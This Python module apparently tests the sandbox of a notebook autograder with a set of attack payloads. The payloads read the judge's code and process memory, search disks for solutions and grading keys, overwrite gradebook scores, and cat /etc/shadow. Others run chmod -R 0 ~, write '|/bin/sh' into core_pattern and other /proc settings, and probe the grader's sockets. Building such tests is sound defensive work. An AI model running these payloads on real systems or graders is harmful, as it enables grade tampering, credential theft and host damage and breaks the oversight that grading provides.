"""Attacks that look for what is hidden in files, modules, memory and other processes."""

from arena import MARK, SECRETS, Attack, finder


class ReadsThroughCode(Attack):
    """Reads the judge's own code that is between a question and its answer: text, comments, constants."""

    proof = r"read [1-9]\d* pieces of code"
    code = f"""
import gc, inspect, linecache, sys, types
pieces = []
{finder(*SECRETS)}
def biggest(x):
    frame = sys._getframe(1)
    while frame is not None:
        if frame.f_code.co_filename == "<nbjudge>":
            pieces.append(repr(frame.f_locals) + repr(frame.f_code.co_consts) + repr(frame.f_code.co_names))
            pieces.extend(map(repr, [held.code for held in frame.f_locals.values() if hasattr(held, "code")]))
        frame = frame.f_back
    for held in gc.get_objects():
        if isinstance(held, types.FunctionType) and held.__code__.co_filename == "<nbjudge>":
            pieces.append(repr(held.__code__.co_consts) + str(linecache.getlines("<nbjudge>")))
    raise RuntimeError(f"read {{len(pieces)}} pieces of code: {{found_in(*pieces)}}")
"""

    # Only the question goes through code: what it found is told by the next notebook's word, the error.
    more_cells = [("test_biggest", "print('read', len(pieces), 'pieces of code')")]

    def harm(self, arena):
        reason = arena.graded.reason(self.name, "biggest")
        return "" if "pieces of code: []" in reason else f"it read {reason}"


class AnswerTable(Attack):
    """Keeps every question on disk, to answer from that table later, and guesses the seed of the next."""

    proof = "asked before: 0(.|\n)*guessed None"
    TABLE = """
import os, pickle
places = [os.path.expanduser("~/table"), "/tmp/table", "/dev/shm/table", "/var/tmp/table", "table"]
table, guessed = {}, None
for place in places:
    if os.path.exists(place):
        table |= pickle.load(open(place, "rb"))
print("asked before:", len(table))
"""
    code = (
        TABLE
        + """
def double(x):
    global guessed
    key = tuple(x.detach().flatten().tolist())
    known = table.get(key)
    table[key] = 2 * x.detach()
    for place in places:
        with suppress(OSError):
            pickle.dump(table, open(place, "wb"))
    for seed in (torch.initial_seed(), *range(100), 42, 1234):
        generator = torch.Generator().manual_seed(seed)
        torch.randperm(12, generator=generator)
        draw = torch.randn(x.shape, generator=generator, dtype=torch.float64).to(x.dtype)
        guessed = seed if torch.equal(draw, x.detach()) else guessed
    return x if known is None else known
def row_sums(x):
    print("guessed", guessed)
    return x.sum()
"""
    )

    next_looks = TABLE
    nothing_left = "asked before: 0"


class WholeMemory(Attack):
    """Reads all memory of its process, forked from another, for words of the checks and the grader."""

    proof = r"read [1-9]\d\d+ MiB"
    # All but the last letter: the notebook itself holds none of the words.
    STEMS = [(word[:-1].encode(), ord(word[-1])) for word in SECRETS]
    code = f"""
found, read = set(), 0
def search(content):
    for stem, last in {STEMS}:
        place = content.find(stem)
        while place >= 0:
            if content[place + len(stem) : place + len(stem) + 1] == bytes([last]):
                found.add(content[place : place + len(stem) + 1])
            place = content.find(stem, place + 1)
def row_sums(x):
    global read
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            span, rights, *rest = line.split()
            start, end = (int(place, 16) for place in span.split("-"))
            if "rw" not in rights or end - start > 2**28 or x.shape != (3, 4):
                continue
            with suppress(OSError, OverflowError):
                memory.seek(start)
                search(memory.read(end - start))
                read += end - start
    print("read", read >> 20, "MiB", sorted(found))
    return x.sum()
"""


ATTACKS = {
    "reads_solutions": Attack(
        "Walks all folders it can reach for checks, solutions, submissions, the gradebook, and reads them.",
        represents="reading what is hidden",
        proof=r"opened [1-9]\d* files",
        code=f"""
import os, sys, time
seen, names, opened = set(), set(), 0
{finder(*SECRETS)}
ours = os.path.dirname(os.path.dirname(__import__("nbjudge").__file__))
library = ("/usr", "/proc", "/dev", "/lib", "/lib64", "/bin", "/sbin", sys.prefix, sys.base_prefix)
wanted = {{"checks", "solutions", "source", "submitted", "autograded", "gradebook.db", ".grading-key"}}
ends = time.monotonic() + 3
for top in ("/", ours, os.getcwd(), os.path.expanduser("~"), "/var", "/srv", "/root", "/work"):
    for folder, folders, files in os.walk(top, followlinks=top != "/"):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in library]
        names.update(set(folders + files) & wanted)
        for name in files:
            try:
                with open(os.path.join(folder, name), "rb") as stream:
                    text = stream.read(10**6)
            except OSError:
                continue
            opened += 1
            seen.update(found_in(text.decode("latin-1"), folder))
        if time.monotonic() > ends:
            break
print("opened", opened, "files;", sorted(seen), "of interest:", sorted(names))
""",
        withstood="of interest: []",
    ),
    "gradebook_by_guess": Attack(
        "Writes full marks into the gradebook wherever it may lie, by sqlite and by hand.",
        proof=r"knocked at [1-9]\d*",
        code="""
import os, sqlite3
places = ["{root}", ".", "..", "../..", "../../..", "/", "/home/student", "/proc/1/cwd/..", "/srv/course"]
opened = []
for place in places:
    path = os.path.join(place, "gradebook.db")
    for uri in (f"file:{path}?mode=rw", f"file:{path}?mode=rw&immutable=1"):
        with suppress(sqlite3.Error):
            with sqlite3.connect(uri, uri=True) as gradebook:
                gradebook.execute("UPDATE grade SET auto_score = 2, manual_score = 2, extra_credit = 2")
                opened.append(path)
    with suppress(OSError):
        with open(path, "r+b") as stream:
            stream.write(b"SQLite format 3" + b"\\0" * 5000)
            opened.append(path)
        os.remove(path)
print("knocked at", len(places), "opened", opened)
""",
        withstood="opened []",
    ),
    "shell_commands": Attack(
        "Runs shell commands, magics and other programs that change files, wait for input and stay behind.",
        proof="after all commands",
        code=f"""
%alias_magic t timeit
get_ipython().run_cell_magic("bash", "--bg", "exec -a {MARK} sleep 300")
get_ipython().run_cell_magic("script", "bash --bg", "exec -a {MARK} sleep 300")
get_ipython().run_cell_magic("writefile", "torch.py", "raise SystemExit")
!mkdir -p ~/.ipython && (setsid sh -c 'exec sleep 300' &)
!echo 2; cat /etc/shadow /etc/passwd; sudo -n id; su -c id < /dev/null; chmod -R 0 ~ 2> /dev/null
%reset -f
import torch
print("after all commands")
""",
    ),
    "reads_proc": Attack(
        "Reads environments, commands, mounts and links of all processes, and goes through their roots.",
        proof=r"read [1-9]\d* tables, went through [1-9]\d* folders",
        code=f"""
import glob, os
texts, processes = [repr(dict(os.environ))], [name for name in os.listdir("/proc") if name.isdigit()]
for name in ("environ", "cmdline", "status", "mountinfo", "mounts", "mountstats", "cgroup", "maps", "stat"):
    for path in [f"/proc/{{name}}", *glob.glob(f"/proc/*/{{name}}"), *glob.glob(f"/proc/*/task/*/{{name}}")]:
        with suppress(OSError):
            texts.append(open(path, errors="replace").read())
for path in sum((glob.glob(f"/proc/*/{{kind}}") for kind in ("cwd", "exe", "fd/*", "map_files/*")), []):
    with suppress(OSError):
        texts.append(os.readlink(path))
folders, seen = 0, set()
for path in glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd"):
    for further in ("", "/..", "/../../..", "/tmp", "/root", "/home", "/work", "/etc", "/var/lib", "/run"):
        with suppress(OSError):
            seen.update(os.listdir(path + further))
            folders += 1
outside = {{"boot", "srv", "passwd", "shadow", "hostname", "gradebook.db"}}
{finder(*SECRETS, "VIRTUAL_ENV", "SSH_", "PYTEST", "pytest", "gradebook", "submitted")}
print("read", len(texts), "tables, went through", folders, "folders:", end=" ")
print(found_in(*texts), sorted(seen & outside), processes)
""",
        withstood="folders: [] [] ['1']",
    ),
    "writes_to_proc": Attack(
        "Writes into /proc and /sys: the memory killer, the core pattern, sysrq, limits, maps.",
        proof="tried [1-9]",
        code="""
import glob, os, resource
places = {
    "/proc/sys/kernel/core_pattern": "|/bin/sh", "/proc/sysrq-trigger": "h", "/proc/sys/kernel/hostname": "x",
    "/proc/sys/vm/drop_caches": "1", "/proc/1/oom_score_adj": "-1000",
    "/proc/self/uid_map": "0 0 1", "/proc/self/setgroups": "allow", "/proc/sys/user/max_user_namespaces": "9",
    "/proc/sys/kernel/ns_last_pid": "1", "/sys/kernel/mm/transparent_hugepage/enabled": "always",
    "/sys/fs/cgroup/cgroup.procs": "1", "/proc/sys/fs/file-max": "10", "/proc/sys/kernel/pid_max": "400",
    "/proc/sys/kernel/shmmax": "1", "/proc/sys/net/core/somaxconn": "1",
}
places |= dict.fromkeys(glob.glob("/proc/sys/**/*", recursive=True), None)
wrote = []
assert os.getpid() == 1, "not in a sandbox: these would be everyone's"
for place, text in places.items():
    with suppress(OSError, UnicodeError):
        if text is None:
            text = open(place).read()
        with open(place, "w") as stream:
            stream.write(text)
        wrote.append(place)
for kind in (resource.RLIMIT_NPROC, resource.RLIMIT_DATA, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
    with suppress(OSError, ValueError):
        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        wrote.append(kind)
with suppress(OSError):
    os.setpriority(os.PRIO_PROCESS, 0, -20)
    wrote.append("priority")
print("tried", len(places), "wrote", wrote)
""",
        withstood="wrote []",
    ),
    "finds_its_reader": Attack(
        "Looks for the process that reads its messages: to see it, to signal it, to write to it.",
        proof="looked at [1-9]",
        code="""
import glob, os, re, signal, socket, stat
found, looked = [], 0
for place in [*glob.glob("/run/**", recursive=True), *glob.glob("/proc/[0-9]*/fd/*"), *glob.glob("/tmp/**")]:
    looked += 1
    with suppress(OSError):
        if stat.S_ISSOCK(os.stat(place).st_mode) and not place.startswith("/proc/"):
            found.append(place)
for number in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
    looked += 1
    command = open(f"/proc/{number}/cmdline").read()
    if number not in (os.getpid(), 1) and "fork_server" in command:
        found.append(command)
for line in open("/proc/net/unix"):
    looked += 1
    if re.search("(sockets|kernel)/[0-9]+", line):
        found.append(line)
own = os.getpid()
for number in range(2, 3000):
    with suppress(OSError):
        os.kill(number, 0)
        if os.stat(f"/proc/{number}").st_uid != os.getuid():
            found.append(f"process {number}")
for number in range(3, 400):  # what was inherited
    with suppress(OSError):
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            with socket.socket(fileno=os.dup(number)) as inherited:
                if inherited.getpeername():
                    found.append(f"socket {number}")
print("looked at", looked)
print("found", found)
""",
        withstood="found []",
    ),
}
